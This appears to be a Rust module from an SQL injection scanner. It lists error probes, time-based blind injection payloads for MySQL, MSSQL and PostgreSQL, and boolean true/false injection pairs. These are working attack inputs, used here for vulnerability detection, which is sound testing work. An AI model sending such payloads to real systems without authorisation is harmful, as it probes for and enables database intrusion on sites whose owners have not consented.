use crate::sqli::Dbms;

#[derive(Debug, Clone, Copy, PartialEq)]
pub struct TimePayload {
    pub payload: &'static str,
    pub expected_delay: f64,
    pub dbms: Dbms,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct BooleanPair {
    pub truthy: &'static str,
    pub falsy: &'static str,
}

/// Used for the error channel when the caller supplied no payloads
pub static ERROR_PROBES: &[&str] = &["'", "\"", "`", "')", "\")", "';--", "\\"];

pub static TIME_PAYLOADS: &[TimePayload] = &[
    TimePayload { payload: "' AND SLEEP(5)--", expected_delay: 5.0, dbms: Dbms::MySQL },
    TimePayload { payload: "' AND SLEEP(5)#", expected_delay: 5.0, dbms: Dbms::MySQL },
    TimePayload { payload: "1' AND SLEEP(5)--", expected_delay: 5.0, dbms: Dbms::MySQL },
    TimePayload { payload: "'; WAITFOR DELAY '0:0:5'--", expected_delay: 5.0, dbms: Dbms::MSSQL },
    TimePayload { payload: "1'; WAITFOR DELAY '0:0:5'--", expected_delay: 5.0, dbms: Dbms::MSSQL },
    TimePayload { payload: "'; SELECT pg_sleep(5)--", expected_delay: 5.0, dbms: Dbms::PostgreSQL },
    TimePayload {
        payload: "1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
        expected_delay: 5.0,
        dbms: Dbms::MySQL,
    },
    TimePayload { payload: "' OR SLEEP(5)--", expected_delay: 5.0, dbms: Dbms::MySQL },
    TimePayload { payload: ") OR SLEEP(5)--", expected_delay: 5.0, dbms: Dbms::MySQL },
];

pub static BOOLEAN_PAIRS: &[BooleanPair] = &[
    BooleanPair { truthy: "' AND '1'='1", falsy: "' AND '1'='2" },
    BooleanPair { truthy: "' AND 1=1--", falsy: "' AND 1=2--" },
    BooleanPair { truthy: "1 AND 1=1", falsy: "1 AND 1=2" },
    BooleanPair { truthy: " AND 1=1", falsy: " AND 1=2" },
    BooleanPair { truthy: "' OR '1'='1", falsy: "' OR '1'='2" },
];
